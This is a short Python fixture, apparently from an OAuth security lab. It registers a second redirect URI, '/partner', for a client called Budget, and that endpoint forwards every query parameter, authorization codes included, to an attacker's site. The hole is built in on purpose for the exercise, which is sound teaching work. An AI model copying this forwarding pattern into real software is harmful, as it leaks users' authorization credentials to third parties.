"""Budget has registered a second redirect URI, which leaks."""

from dataclasses import replace

from flask import Response, redirect, request

from auth_server.seed import first_party_clients
from labs.worlds import LabWorld

OLD = (
    "Budget has registered two redirect URIs, `/callback` and `/partner`; whoever is sent to `/partner` is sent on to "
    "a partner's site with all parameters, and that site is the attacker's today.",
)


def furnish(world: LabWorld) -> None:
    """Register the second redirect URI, and let it send people on."""
    budget = first_party_clients(world.parties["auth"].extensions["settings"])[0]
    uris = (*budget.redirect_uris, f"{world.here.budget}/partner")
    world.clients.append(replace(budget, redirect_uris=uris))
    partner = f"{world.here.attacker}/welcome"

    def to_the_partner() -> Response:
        return redirect(f"{partner}?{request.query_string.decode()}", 303)  # type: ignore[return-value]

    world.parties["budget"].add_url_rule("/partner", view_func=to_the_partner)
